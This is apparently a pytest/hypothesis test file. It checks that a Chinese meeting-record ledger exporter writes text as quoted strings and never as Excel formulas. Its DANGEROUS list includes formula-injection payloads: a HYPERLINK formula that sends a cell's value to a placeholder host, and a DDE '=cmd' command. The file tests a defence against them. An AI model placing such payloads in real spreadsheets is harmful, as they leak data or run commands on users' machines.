"""Issue 23.1: exported workbooks never hold a formula. Every data text (a record's topic, a roster
name, a reason of absence …) is a string cell whatever its first character; text a spreadsheet would
take for a formula when edited also carries Excel's quote prefix."""

from __future__ import annotations

import dataclasses
import re
import zipfile
from pathlib import Path

import pytest
from helpers.files import make_project
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from macros.core.records import model as rec
from macros.core.redact import masked_records
from macros.exports import ledger_xlsx

COMMITTEE = """\
type: committee_meeting
date: 2022-03-15
topic: 研究第一季度党建工作
host: 张某某
recorder: 李某某
absent:
  - name: 王某某
    reason: 出差
evidence: 会议记录本第3页
"""
DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?"&C2,"点此")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A3)",
    "＝1+1",  # full-width
    " =1+1",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    "-",
    "=",
]
START = st.sampled_from(["=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\t=", "  +", "\u3000=", "−"])
BODY = st.text(st.characters(blacklist_categories=("Cc", "Cs", "Cf", "Zl", "Zp")), max_size=40)
TEXTS = st.one_of(st.sampled_from(DANGEROUS), st.builds(lambda a, b: a + b, START, BODY))


def _records(root: Path, topic: str, name: str):
    errors: list = []
    records = rec.load_records(root, 2022, rec.load_types(root, errors), errors)
    assert errors == []
    item = dataclasses.replace(records.items[0], topic=topic, evidence=topic, host=name,
                               absent=((name, topic),), decisions=(topic,))
    roster = (dataclasses.replace(records.roster[0], name=name), *records.roster[1:])
    return dataclasses.replace(records, items=(item,), roster=roster)


def formulas(path: Path) -> list[str]:
    """Every formula of a workbook: cells openpyxl reads as formulas, and <f> elements in its XML."""
    found = []
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            found += [f"{ws.title}!{c.coordinate}" for c in row if c.data_type == "f"]
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >]", archive.read(name)):
                found.append(name)
    return found


def texts(path: Path) -> set[str]:
    wb = load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def quoted(path: Path, text: str) -> bool:
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]
    return bool(cells) and all(c.quotePrefix for c in cells)


@pytest.fixture(scope="module")
def root(tmp_path_factory) -> Path:
    return make_project(tmp_path_factory.mktemp("export") / "p", records={"2022-03-15-committee_meeting.yaml": COMMITTEE})


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(topic=TEXTS, name=TEXTS)
def test_no_exported_cell_is_a_formula(root, tmp_path, topic, name):
    records = _records(root, topic, name)
    full, redacted, template = tmp_path / "full.xlsx", tmp_path / "redacted.xlsx", tmp_path / "template.xlsx"
    ledger_xlsx.write_ledger(records, full, "测试党支部")
    ledger_xlsx.write_ledger(masked_records(records), redacted, "测试党支部", redacted=True)
    ledger_xlsx.write_template(records, template, "测试党支部")
    for path in (full, redacted, template):
        assert formulas(path) == [], path.name
    assert {topic, name} <= texts(full)  # the text itself, not altered
    assert name in texts(template)  # the 名册 sheet the name lists read
    if ledger_xlsx.FORMULA_START.match(topic):
        assert quoted(full, topic)


def test_the_known_attack_is_plain_text(root, tmp_path):
    attack = DANGEROUS[0]
    out = tmp_path / "ledger.xlsx"
    ledger_xlsx.write_ledger(_records(root, attack, "张某某"), out, "测试党支部")
    wb = load_workbook(out)
    cell = next(c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == attack)
    assert cell.data_type == "s" and cell.quotePrefix
    assert formulas(out) == []
